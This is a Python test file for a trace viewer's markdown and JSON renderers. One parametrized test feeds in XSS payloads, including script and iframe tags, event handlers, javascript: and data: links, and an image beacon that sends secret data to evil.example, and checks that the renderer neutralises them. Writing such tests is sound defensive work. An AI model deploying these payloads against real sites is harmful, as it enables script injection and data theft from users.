import json
import time
from html.parser import HTMLParser

import pytest

from traces.render.json_lines import MAX_DEPTH, json_lines, parsed, pretty
from traces.render.markdown import TAGS, markdown


def test_markdown_is_shown_as_such():
    html = markdown("**bold** and `code`\nnext\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |")
    for part in ("<strong>bold</strong>", "<code>code</code>", "<br", "<li>a</li>", "<td>1</td>"):
        assert part in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "![beacon](https://evil.example/p.png?data=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:x)",
        '<a href="javascript:alert(1)">x</a>',
        '<div hx-get="/logout" hx-trigger="load">x</div>',
        "<svg/onload=alert(1)>",
        "<iframe src=//evil.example>",
        '[x](https://e.example "onmouseover=alert(1)")',
        "<style>body{display:none}</style>",
        "<https://e.example/><script>",
    ],
)
def test_markdown_from_outside_can_do_nothing(text):
    nodes = LiveNodes()
    nodes.feed(markdown(text))
    assert nodes.tags <= TAGS
    assert nodes.attributes <= {"href", "rel", "target", "start"}
    assert all(link.startswith(("https://", "http://", "mailto:")) for link in nodes.links)


class LiveNodes(HTMLParser):
    """What a browser would make of the HTML."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes, self.links = set(), set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value for name, value in attrs if name == "href"]


def test_links_open_elsewhere_and_tell_nothing():
    html = markdown("[docs](https://example.org/a)")
    assert 'rel="noopener noreferrer nofollow"' in html and 'target="_blank"' in html


def test_an_image_is_a_link_to_follow_or_not():
    html = markdown("![a <b> cat](https://example.org/cat.png)")
    assert 'href="https://example.org/cat.png"' in html and "a &lt;b&gt; cat" in html


def test_markdown_built_to_be_slow_is_not():
    for text in ("[" * 20_000, "> " * 10_000, "*a " * 7_000, "`" * 20_000, "![" * 10_000):
        began = time.process_time()
        markdown(text)
        assert time.process_time() - began < 3, text[:6]  # what is so takes 0.3 seconds at most


def test_json_becomes_lines_that_open_and_close():
    kinds = [
        (line.kind, line.key, line.text) for line in json_lines({"a": [1, "x", None], "b": {}})
    ]
    assert kinds == [
        ("open", "", ""),
        ("open", "a", ""),
        ("leaf", "0", "1"),
        ("leaf", "1", "x"),
        ("leaf", "2", "null"),
        ("close", "", ""),
        ("leaf", "b", "{}"),
        ("close", "", ""),
    ]


def test_every_line_that_opens_is_closed_however_much_is_left_out():
    for limit in (1, 3, 10, 100):
        lines = json_lines({"a": [{"n": n} for n in range(500)], "z": list(range(500))}, limit)
        assert sum(line.kind == "open" for line in lines) == sum(
            line.kind == "close" for line in lines
        )
        assert any(line.kind == "cut" and line.count for line in lines)
        assert len(lines) < 4 * limit + 10


def test_json_nested_deeper_than_is_folded_is_shown_as_text():
    value = 1
    for _ in range(MAX_DEPTH + 10):
        value = [value]
    lines = json_lines(value)
    assert sum(line.kind == "open" for line in lines) == MAX_DEPTH
    assert "[[[" in next(line.text for line in lines if line.kind == "leaf")


@pytest.mark.parametrize(
    "text", ["", "plain", "{broken", "[" * 100_000, "12", '"text"', "[1" + "0" * 5000 + "]"]
)
def test_text_that_is_no_json_object_stays_text(text):
    assert parsed(text) is None
    assert pretty(text) == text


def test_pretty_keeps_letters_as_they_are():
    assert pretty(json.dumps({"질문": "환불"})) == '{\n  "질문": "환불"\n}'
